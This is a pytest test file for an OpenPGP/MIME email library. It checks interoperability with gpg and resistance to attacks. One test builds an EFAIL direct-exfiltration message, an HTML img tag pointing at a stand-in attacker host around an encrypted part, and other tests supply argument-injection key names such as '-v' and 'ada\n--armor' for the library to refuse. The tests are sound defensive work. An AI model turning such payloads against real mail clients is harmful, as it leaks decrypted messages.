"""OpenPGP/MIME with the program gpg: what we write it reads, what it writes we read."""

from __future__ import annotations

import logging
import re
import shutil
import subprocess
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from courriel import Email, Garbled, Limits, Misused, Secret
from courriel.crypto.entity import Layer, halves
from courriel.crypto.openpgp import OpenPGP, encrypted_parts

pytestmark = pytest.mark.server

PASSPHRASE = "kénning s3cret"
LETTER = Email(
    sender="Ada <ada@example.org>",
    to="bob@example.org",
    subject="Grüße",
    text="From the Analytical Engine.\n",
    html="<p>Hällo</p>",
)


@dataclass(frozen=True)
class Home:
    """A home of GnuPG, with a short name, because sockets have no long ones."""

    folder: Path

    def gpg(self, *arguments: str, given: bytes = b"") -> bytes:
        command = ["gpg", "--homedir", str(self.folder), "--batch", "--yes", "--quiet"]
        done = subprocess.run([*command, *arguments], input=given, capture_output=True, check=False)
        assert 0 == done.returncode, done.stderr.decode()
        return done.stdout

    def make(self, name: str, *, kind: str = "ed25519", passphrase: str = "") -> str:
        options = ("--passphrase", passphrase, "--pinentry-mode", "loopback")
        self.gpg(*options, "--quick-generate-key", name, kind, "sign", "never")
        fingerprint = self.fingerprint(name)
        inner = "cv25519" if kind == "ed25519" else kind
        self.gpg(*options, "--quick-add-key", fingerprint, inner, "encrypt", "never")
        return fingerprint

    def fingerprint(self, name: str) -> str:
        listing = self.gpg("--with-colons", "--list-keys", name).decode()
        found = re.search(r"^fpr:+([0-9A-F]+):", listing, re.MULTILINE)
        assert found is not None
        return found[1]


@pytest.fixture(scope="module")
def homes() -> Iterator[tuple[Home, Home]]:
    made = [Home(Path(tempfile.mkdtemp(prefix="gpg-"))) for _ in range(2)]
    yield made[0], made[1]
    for home in made:
        subprocess.run(["gpgconf", "--homedir", home.folder, "--kill", "all"], check=True)
        shutil.rmtree(home.folder, ignore_errors=True)


@pytest.fixture(scope="module")
def home(homes: tuple[Home, Home]) -> Home:
    """Ada's home, where Ada, Bob, Rosa and Carol are trusted, and Eve is only known."""
    ours, elsewhere = homes
    ours.make("Ada <ada@example.org>")
    ours.make("Bob <bob@example.org>")
    ours.make("Rosa <rosa@example.org>", kind="rsa2048")
    ours.make("Carol <carol@example.org>", passphrase=PASSPHRASE)
    elsewhere.make("Eve <eve@example.org>")
    ours.gpg("--import", given=elsewhere.gpg("--export", "eve@example.org"))
    elsewhere.make("Mallory <mallory@example.org>")
    elsewhere.gpg("--import", given=ours.gpg("--export"))
    return ours


@pytest.fixture
def pgp(home: Home) -> OpenPGP:
    return OpenPGP(home.folder)


@pytest.fixture
def elsewhere(homes: tuple[Home, Home], home: Home) -> OpenPGP:
    return OpenPGP(homes[1].folder)


def letter(sender: str) -> Email:
    return Email(sender=sender, to="bob@example.org", text="Hällo\n", subject="Hi")


@pytest.mark.parametrize("name", ["ada", "rosa"])
def test_what_is_signed_is_verified(pgp: OpenPGP, home: Home, name: str) -> None:
    address = f"{name}@example.org"
    signed = pgp.sign(letter(address), address)
    result = pgp.verify(signed)
    assert (True, "") == (result.valid, result.reason)
    assert result.intact and result.trusted and result.signed_at is not None
    assert f"{name.title()} <{address}>" == str(result.signer)
    assert home.fingerprint(address) == result.fingerprint
    assert result.email is not None
    assert "Hällo\n" == result.email.text == signed.text
    assert "pgp-sha512" in signed.headers["Content-Type"]
    assert () == signed.defects


def test_gpg_verifies_what_we_sign(pgp: OpenPGP, home: Home, tmp_path: Path) -> None:
    layer = Layer.of(pgp.sign(LETTER, "ada@example.org"))
    (tmp_path / "content").write_bytes(layer.signed_octets())
    (tmp_path / "content.asc").write_bytes(layer.decoded(layer.root.parts[1]))
    home.gpg("--verify", str(tmp_path / "content.asc"), str(tmp_path / "content"))


@pytest.mark.parametrize("options", [[], ["--textmode"], ["--digest-algo", "SHA256"]])
def test_we_verify_what_gpg_signs(
    pgp: OpenPGP, home: Home, tmp_path: Path, options: list[str]
) -> None:
    signed = by_hand(home, tmp_path, *options)
    assert pgp.verify(signed).valid
    stored = Email.from_source(signed.source.replace(b"\r\n", b"\n"))
    assert pgp.verify(stored).valid


def by_hand(home: Home, folder: Path, *options: str) -> Email:
    entity = b"Content-Type: text/plain\r\n\r\nBy hand.\r\n"
    (folder / "content").write_bytes(entity)
    signer = ("--local-user", "ada@example.org", *options)
    made = home.gpg(*signer, "--armor", "--detach-sign", "-o", "-", str(folder / "content"))
    head = (
        b"From: ada@example.org\r\nContent-Type: multipart/signed; boundary=b;\r\n"
        b' protocol="application/pgp-signature"; micalg=pgp-sha256\r\n\r\n'
    )
    signature = b"Content-Type: application/pgp-signature\r\n\r\n" + made.replace(b"\n", b"\r\n")
    return Email.from_source(head + b"--b\r\n%s\r\n--b\r\n%s\r\n--b--\r\n" % (entity, signature))


def test_a_weak_digest_proves_nothing(pgp: OpenPGP, home: Home, tmp_path: Path) -> None:
    result = pgp.verify(by_hand(home, tmp_path, "--digest-algo", "SHA1"))
    assert not result
    assert "the signature is made with a digest that is weak or unknown" == result.reason


def test_two_signatures_are_not_one(pgp: OpenPGP, home: Home, tmp_path: Path) -> None:
    result = pgp.verify(by_hand(home, tmp_path, "--local-user", "bob@example.org"))
    assert "there are several signatures" == result.reason


def test_a_signed_message_is_not_the_signature_of_another(pgp: OpenPGP, home: Home) -> None:
    source = pgp.sign(LETTER, "ada@example.org").source
    armor = re.compile(rb"-----BEGIN PGP SIGNATURE-----.*END PGP SIGNATURE-----\r\n", re.DOTALL)
    for options in (["--sign"], ["--clearsign"]):
        signer = ("--armor", "-u", "ada@example.org", *options)
        made = home.gpg(*signer, given=b"Pay Eve.\n").replace(b"\n", b"\r\n")
        before, _, behind = armor.sub(b"#", source).partition(b"#")
        forged = Email.from_source(before + made + behind)
        assert not pgp.verify(forged).intact


def test_a_changed_word_is_noticed(pgp: OpenPGP) -> None:
    source = pgp.sign(LETTER, "ada@example.org").source.replace(b"Analytical", b"Difference")
    result = pgp.verify(Email.from_source(source))
    assert (False, "the content is not what was signed") == (result.intact, result.reason)
    assert not result and result.email is None


def test_the_author_must_be_the_signer(pgp: OpenPGP) -> None:
    source = pgp.sign(LETTER, "ada@example.org").source
    for changed in (
        source.replace(b"From: Ada <ada@", b"From: Ada <bob@"),
        source.replace(b"From: Ada <ada@example.org>", b'From: "ada@example.org" <-v@x.example>'),
        source.replace(b"From: ", b"From: bob@example.org\r\nFrom: "),
        source.replace(b"From: ", b"X-From: "),
    ):
        result = pgp.verify(Email.from_source(changed))
        assert not result.valid and result.intact
        assert "From" in result.reason


def test_a_key_that_is_only_known_is_not_trusted(pgp: OpenPGP, elsewhere: OpenPGP) -> None:
    result = pgp.verify(elsewhere.sign(letter("eve@example.org"), "eve@example.org"))
    assert (True, False, False) == (result.intact, result.trusted, result.valid)
    assert "the key is not trusted for the address in From" == result.reason
    unknown = pgp.verify(elsewhere.sign(letter("mallory@example.org"), "mallory@example.org"))
    assert "the key of the signer is not in the key ring" == unknown.reason


def test_a_name_that_was_revoked_is_nobodys(home: Home, pgp: OpenPGP) -> None:
    fingerprint = home.make("Dora <dora@example.org>")
    home.gpg("--quick-add-uid", fingerprint, "Dora <old@example.org>")
    signed = pgp.sign(letter("old@example.org"), fingerprint)
    assert pgp.verify(signed).valid
    home.gpg("--quick-revoke-uid", fingerprint, "Dora <old@example.org>")
    assert "the key is not for the address in From" == pgp.verify(signed).reason
    assert pgp.verify(pgp.sign(letter("dora@example.org"), fingerprint)).valid


@pytest.mark.parametrize("name", ["bob", "rosa"])
def test_what_is_encrypted_is_decrypted(pgp: OpenPGP, name: str) -> None:
    sealed = pgp.encrypt(LETTER, [f"{name}@example.org"], sign_by="ada@example.org")
    assert b"Analytical" not in sealed.source
    assert LETTER.subject == sealed.subject
    opened = pgp.decrypt(sealed)
    assert (LETTER.text, LETTER.html) == (opened.email.text, opened.email.html)
    assert "Ada <ada@example.org>" == str(opened.signed_by)
    assert opened.authenticated
    assert () == opened.email.defects


def test_signing_first_and_encrypting_then_is_read_too(pgp: OpenPGP) -> None:
    sealed = pgp.encrypt(pgp.sign(LETTER, "ada@example.org"), "bob@example.org")
    opened = pgp.decrypt(sealed)
    assert "ada@example.org" == getattr(opened.signed_by, "address", None)
    assert opened.signature is not None and opened.signature.email is not None
    assert LETTER.text == opened.signature.email.text


def test_an_unsigned_message_is_signed_by_nobody(pgp: OpenPGP) -> None:
    opened = pgp.decrypt(pgp.encrypt(LETTER, ["bob@example.org"]))
    assert (None, None) == (opened.signature, opened.signed_by)


def test_a_signature_inside_that_is_not_trusted_says_so(pgp: OpenPGP, elsewhere: OpenPGP) -> None:
    for name, word in (("eve", "trusted"), ("mallory", "key ring")):
        address = f"{name}@example.org"
        sealed = elsewhere.encrypt(
            letter(address), ["ada@example.org"], sign_by=address, trust_all=True
        )
        opened = pgp.decrypt(sealed)
        assert "Hällo\n" == opened.email.text
        assert opened.signed_by is None
        assert opened.signature is not None and word in opened.signature.reason


def test_gpg_decrypts_what_we_encrypt(pgp: OpenPGP, home: Home) -> None:
    layer = Layer.of(pgp.encrypt(LETTER, ["bob@example.org"]))
    content = home.gpg("--decrypt", given=layer.decoded(layer.root.parts[1]))
    assert halves(LETTER).entity == content


@pytest.mark.parametrize("options", [[], ["--compress-algo", "none"], ["--cipher-algo", "AES256"]])
def test_we_decrypt_what_gpg_encrypts(pgp: OpenPGP, home: Home, options: list[str]) -> None:
    made = home.gpg(*options, "-r", "bob@example.org", "-ae", given=halves(LETTER).entity)
    assert LETTER.text == pgp.decrypt(with_ciphertext(pgp, made)).email.text


def with_ciphertext(pgp: OpenPGP, made: bytes) -> Email:
    source = pgp.encrypt(LETTER, ["bob@example.org"]).source
    armor = re.compile(rb"-----BEGIN PGP MESSAGE-----.*END PGP MESSAGE-----\r\n", re.DOTALL)
    return Email.from_source(armor.sub(lambda _: made.replace(b"\n", b"\r\n"), source))


def test_what_is_not_encrypted_is_not_given_out_as_decrypted(pgp: OpenPGP, home: Home) -> None:
    for made in (
        home.gpg("--armor", "--store", given=b"plain"),
        home.gpg("--armor", "-u", "ada@example.org", "--sign", given=b"only signed"),
        b"-----BEGIN PGP MESSAGE-----\n\nrubbish\n-----END PGP MESSAGE-----\n",
        b"",
    ):
        with pytest.raises(Garbled, match="cannot be decrypted") as caught:
            pgp.decrypt(with_ciphertext(pgp, made))
        assert caught.value.session_usable


def test_a_message_without_integrity_is_refused(pgp: OpenPGP, home: Home) -> None:
    """The second half of EFAIL: a ciphertext that anybody can change."""
    made = home.gpg(
        *("--rfc2440", "--disable-mdc", "--cipher-algo", "3DES", "--compress-algo", "none"),
        *("-r", "rosa@example.org", "-ae"),
        given=halves(LETTER).entity,
    )
    with pytest.raises(Garbled):
        pgp.decrypt(with_ciphertext(pgp, made))


def test_a_damaged_message_is_garbled(pgp: OpenPGP) -> None:
    source = pgp.encrypt(LETTER, ["bob@example.org"]).source
    at = source.index(b"-----END PGP MESSAGE") - 60
    changed = source[:at] + source[at : at + 20].swapcase() + source[at + 20 :]
    with pytest.raises(Garbled):
        pgp.decrypt(Email.from_source(changed))


def test_a_bomb_does_not_go_off(pgp: OpenPGP, home: Home) -> None:
    careful = OpenPGP(home.folder, limits=Limits(pgp_content=100_000))
    made = home.gpg("-r", "bob@example.org", "-ae", given=b"\0" * 10_000_000)
    assert 30_000 > len(made)
    with pytest.raises(Garbled):
        careful.decrypt(with_ciphertext(pgp, made))
    assert 100_000 < len(pgp.decrypt(with_ciphertext(pgp, made)).email.source)


def test_efail_direct_exfiltration(pgp: OpenPGP) -> None:
    secret = halves(pgp.encrypt(LETTER, ["bob@example.org"])).entity
    before = b'Content-Type: text/html\r\n\r\n<img src="http://eve.example/'
    parts = b"".join(b"--e\r\n%s\r\n" % part for part in (before, secret))
    head = b"From: eve@example.org\r\nContent-Type: multipart/mixed; boundary=e\r\n\r\n"
    attack = Email.from_source(head + parts + b"--e--\r\n")
    with pytest.raises(Misused, match="as a whole"):
        pgp.decrypt(attack)
    (part,) = encrypted_parts(attack)
    assert (LETTER.text, LETTER.html) == (
        pgp.decrypt(part).email.text,
        pgp.decrypt(part).email.html,
    )


def test_a_passphrase_opens_and_is_never_shown(
    pgp: OpenPGP, home: Home, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    carol = letter("carol@example.org")
    key = "carol@example.org"
    subprocess.run(["gpgconf", "--homedir", home.folder, "--kill", "gpg-agent"], check=True)
    with pytest.raises(Misused, match="passphrase") as caught:
        pgp.sign(carol, key, passphrase="wrong " + PASSPHRASE)
    assert "s3cret" not in f"{caught.value!r} {caught.value}"
    assert pgp.verify(pgp.sign(carol, key, passphrase=Secret(PASSPHRASE))).valid
    subprocess.run(["gpgconf", "--homedir", home.folder, "--kill", "gpg-agent"], check=True)
    sealed = pgp.encrypt(carol, [key], sign_by=key, passphrase=PASSPHRASE)
    subprocess.run(["gpgconf", "--homedir", home.folder, "--kill", "gpg-agent"], check=True)
    with pytest.raises(Misused, match="passphrase"):
        pgp.decrypt(sealed, passphrase="wrong " + PASSPHRASE)
    assert "Hällo\n" == pgp.decrypt(sealed, passphrase=PASSPHRASE).email.text
    assert "s3cret" not in caplog.text
    for wrong in ("", "two\nlines"):
        with pytest.raises(Misused, match="passphrase"):
            pgp.sign(carol, key, passphrase=wrong)


def test_keys_are_named_plainly(pgp: OpenPGP, elsewhere: OpenPGP, tmp_path: Path) -> None:
    for name in ("", "-v", "ada\n--armor", "nobody@example.org", "da@example.org", "nobody"):
        with pytest.raises(Misused):
            pgp.sign(LETTER, name)
        with pytest.raises(Misused):
            pgp.encrypt(LETTER, [name])
    with pytest.raises(Misused, match="not trusted"):
        pgp.encrypt(LETTER, ["eve@example.org"])
    assert b"PGP MESSAGE" in pgp.encrypt(LETTER, ["eve@example.org"], trust_all=True).source
    with pytest.raises(Misused, match="nobody"):
        pgp.encrypt(LETTER, [])
    with pytest.raises(Misused, match="no private key"):
        elsewhere.decrypt(pgp.encrypt(LETTER, ["bob@example.org"]))
    with pytest.raises(Misused, match="home"):
        OpenPGP(tmp_path / "absent")
    with pytest.raises(Misused, match="Install GnuPG"):
        OpenPGP(tmp_path, program="no-such-gpg")
